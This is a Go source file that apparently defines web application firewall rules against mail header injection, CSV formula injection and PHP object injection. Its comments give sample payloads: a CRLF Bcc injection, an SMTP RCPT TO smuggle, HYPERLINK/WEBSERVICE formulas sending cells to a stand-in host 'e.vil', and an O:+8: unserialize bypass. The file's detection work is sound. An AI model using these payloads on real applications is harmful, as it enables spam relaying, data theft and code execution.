package waf

// formatRules are rules 210165 to 210167: injection into a format the
// application writes a value into, found by a twelfth fresh-eyes attack
// (attack 16), which reached the upstream through the CRS at paranoia 1:
//   - 210165: mail header injection. PHP's mail() with "From: ".$email in
//     its extra headers, and any code that writes a value into a
//     message's head, sends what follows a line break as more headers:
//     {"email":"a@b.c\r\nBcc: victim@x.com"} adds a recipient. Refused:
//     a value that is an address (one token with an @) and then a line
//     break and a header that routes or rewrites the message (To, Cc,
//     Bcc, From, Reply-To, Return-Path, Sender, Subject, Content-Type,
//     MIME-Version, Content-Transfer-Encoding) and its colon; anywhere in
//     a value, a line break then Bcc: and an address, or SMTP's RCPT TO:
//     or MAIL FROM: (a value written into an SMTP dialogue: ?from=a@b.c
//     %0d%0aRCPT TO:<x@y.z>). A support ticket that quotes a message
//     ("I got this:\nFrom: ann@example.com\nSubject: hi") passes: it does
//     not start with an address, and its headers are not Bcc.
//   - 210166: spreadsheet formula injection that sends the sheet's cells
//     away. A value exported to CSV that a spreadsheet opens as a formula
//     (a first =, +, - or @): =HYPERLINK("http://e.vil/?x="&A1&B1,"Click")
//     and =WEBSERVICE("http://e.vil/?"&A1) send the cells to the
//     attacker's host when opened or clicked. Refused: such a formula of
//     HYPERLINK, WEBSERVICE, IMAGE, FILTERXML or an IMPORT function whose
//     first argument is a string joined (&) with more; the CRS already
//     refuses =cmd|'/C calc'!A0 and DDE. A spreadsheet API's own
//     =HYPERLINK("https://example.com","Example") passes (no &), and so
//     does a formula of other functions (=SUM(A1:A3)&" total"). Read
//     as decoded, never decoded again: a decoded + would be a space.
//   - 210167: PHP object injection with a sign in a length, O:+8:"...":
//     PHP 5's unserialize() reads O:+8: as O:8: (PHP 7 and later refuse
//     it), which the CRS's 933170 ([oOcC]:\d+:) does not match. Refused:
//     an object or custom-serialized value whose name's length carries
//     a + and its name's quote after it (O:+8:"), also percent-encoded
//     as a cookie carries it to PHP (O%3A%2B8%3A%22: PHP decodes a
//     cookie's value, and the CRS reads cookies as sent); the values
//     are read without decoding them once more, which would turn the +
//     of a decoded query into a space.
var formatRules = `SecRule ARGS|REQUEST_COOKIES "@rx (?i)(?:^\s*[^\s@]+@[^\s@]+?[\r\n]+[\t ]*(?:to|b?cc|from|reply-to|return-path|sender|subject|content-type|mime-version|content-transfer-encoding)[\t ]*:|[\r\n][\t ]*(?:bcc[\t ]*:[^\r\n]*@|rcpt[\t ]+to[\t ]*:|mail[\t ]+from[\t ]*:))" "id:210165,phase:2,block,t:none,t:urlDecodeUni,msg:'Mail header injection: an address then a line break and a header',tag:'application-multi',tag:'attack-protocol',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ARGS|REQUEST_COOKIES|XML:/* "@rx (?i)^[\s\x22']*[=+@-][\s(]*(?:filterxml\s*\(\s*)?(?:hyperlink|webservice|image|import(?:xml|data|html|feed|range))\s*\(\s*\x22[^\x22]*\x22\s*&" "id:210166,phase:2,block,t:none,msg:'Spreadsheet formula injection: a formula that sends cells to a URL',tag:'application-multi',tag:'attack-injection-generic',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule REQUEST_COOKIES|REQUEST_COOKIES_NAMES|REQUEST_HEADERS|ARGS_NAMES|ARGS|XML:/* "@rx (?i)[oc](?::\+\d+:\x22|(?::|%3a)%2b\d+(?::|%3a)(?:\x22|%22))" "id:210167,phase:2,block,t:none,msg:'PHP object injection: a serialized object with a signed length',tag:'application-multi',tag:'attack-injection-php',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`
